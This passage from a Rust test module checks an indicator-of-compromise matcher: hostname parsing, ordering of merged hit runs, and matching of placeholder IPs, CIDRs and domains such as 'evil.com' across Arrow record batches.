        let want: Vec<(String, String, String)> = want.iter().map(|(c, v, m)| (c.to_string(), v.to_string(), m.to_string())).collect();
        assert_eq!(got, want);
    }

    #[test]
    fn plain_host_is_a_name_alone() {
        let simple = |c: &[u8]| !c.is_empty() && !c[0].is_ascii_digit() && !c.iter().any(|&b| matches!(b, b':' | b'/' | b'@') || b <= b',');
        let mut rng = crate::test_rng::Rng::new(0x9E37_79B9_7F4A_7C15);
        for _ in 0..100_000 {
            let x = rng.next();
            let len = (x % 40) as usize;
            let c: Vec<u8> =
                (0..len)
                    .map(|i| {
                        if (x >> (i % 50)).is_multiple_of(23) {
                            b":/@, \t\n\0!+"[i % 10]
                        } else {
                            b"ab.9-Z\xc3"[((x as usize >> 3) + i) % 7]
                        }
                    })
                    .collect();
            assert_eq!(plain_host(&c), simple(&c), "{:?}", String::from_utf8_lossy(&c));
        }
        for c in [
            "evil.com",
            "evil.com:443",
            "user@evil.com",
            "a.b.c.d.e.f.g.h.i/",
            "1evil.com",
            "x",
            "",
            "evil.com ",
            "a.com,b.com",
            "\tevil.com",
        ] {
            assert_eq!(plain_host(c.as_bytes()), simple(c.as_bytes()), "{c}");
        }
    }

    #[test]
    fn runs_merge_in_row_order() {
        let hit = |row: usize, col: u32, ioc: u32| Hit { row, col, ioc, m: Span::CELL };
        // column 0: rows 1, 1, 5; column 1: none; column 2: rows 0, 1, 9
        let hits = vec![hit(1, 0, 7), hit(1, 0, 3), hit(5, 0, 1), hit(0, 2, 2), hit(1, 2, 0), hit(9, 2, 4)];
        let got: Vec<(usize, u32, u32)> = merge_runs(hits, &[3, 3, 6]).iter().map(|h| (h.row, h.col, h.ioc)).collect();
        assert_eq!(got, vec![(0, 2, 2), (1, 0, 7), (1, 0, 3), (1, 2, 0), (5, 0, 1), (9, 2, 4)]);
        let one = merge_runs(vec![hit(4, 1, 0), hit(2, 1, 1)], &[0, 2]);
        assert_eq!(one.iter().map(|h| h.row).collect::<Vec<_>>(), vec![4, 2], "a single run is left as it is");
        assert!(merge_runs(Vec::new(), &[]).is_empty());
    }

    /// Per-column matches merged: the same table as one match of all the columns.
    #[test]
    fn merged_parts_are_one_match() {
        let m = set(&[("cidr", "198.51.100.0/22"), ("domain", "evil.com"), ("ip", "10.0.0.1")]);
        let ips: Vec<Option<&str>> = (0..3000).map(|i| [Some("198.51.101.9"), None, Some("10.0.0.2"), Some("10.0.0.1")][i % 4]).collect();
        let doms: Vec<Option<&str>> = (0..3000).map(|i| [Some("a.evil.com"), Some("x.org"), None][i % 3]).collect();
        let batch = |lo: usize, hi: usize| {
            RecordBatch::try_from_iter([
                ("src_ip", Arc::new(StringArray::from(ips[lo..hi].to_vec())) as ArrayRef),
                ("dst_ip", Arc::new(StringViewArray::from(ips[lo..hi].iter().rev().copied().collect::<Vec<_>>())) as ArrayRef),
                ("domain", Arc::new(StringArray::from(doms[lo..hi].to_vec())) as ArrayRef),
            ])
            .unwrap()
        };
        let batches = [batch(0, 1000), batch(1000, 1001), batch(1001, 3000)];
        let spec = |n: &str, role| ColumnSpec { name: n.into(), role, unless: None };
        let specs = [spec("src_ip", Role::Ip), spec("dst_ip", Role::Ip), spec("domain", Role::Domain)];
        let whole = concat(m.match_batches(&batches, &specs).unwrap());
        let parts: Vec<Vec<RecordBatch>> = specs.iter().map(|s| m.match_batches(&batches, std::slice::from_ref(s)).unwrap()).collect();
        assert!(parts.iter().all(|p| p.len() > 1), "several batches per part");
        assert_eq!(concat(merge_hits(&parts).unwrap()), whole);
        // parts cut into batches differently: the overlapping ones are merged together
        let recut = vec![
            vec![concat(parts[0].clone())],
            parts[1].clone(),
            parts[2]
                .iter()
                .flat_map(|b| [b.slice(0, b.num_rows() / 2), b.slice(b.num_rows() / 2, b.num_rows() - b.num_rows() / 2)])
                .collect(),
        ];
        assert_eq!(concat(merge_hits(&recut).unwrap()), whole);
        assert_eq!(whole.num_rows(), 750 + 750 + 750 + 750 + 1000);
        // one part with hits: as it is; none: nothing
        let one = vec![Vec::new(), parts[2].clone()];
        assert_eq!(concat(merge_hits(&one).unwrap()), concat(parts[2].clone()));
        assert!(merge_hits(&[Vec::new()]).unwrap().is_empty());
    }

    #[test]
    fn bad_column() {
        let m = set(&[("ip", "1.2.3.4")]);
        let batch = RecordBatch::try_from_iter([("n", Arc::new(arrow_array::UInt32Array::from(vec![1])) as ArrayRef)]).unwrap();
        let spec = [ColumnSpec { name: "n".into(), role: Role::Ip, unless: None }];
        assert!(m.match_batches(std::slice::from_ref(&batch), &spec).unwrap_err().contains("not a string column"));
        let spec = [ColumnSpec { name: "zz".into(), role: Role::Ip, unless: None }];
        assert!(m.match_batches(&[batch], &spec).unwrap_err().contains("no column"));
    }
}
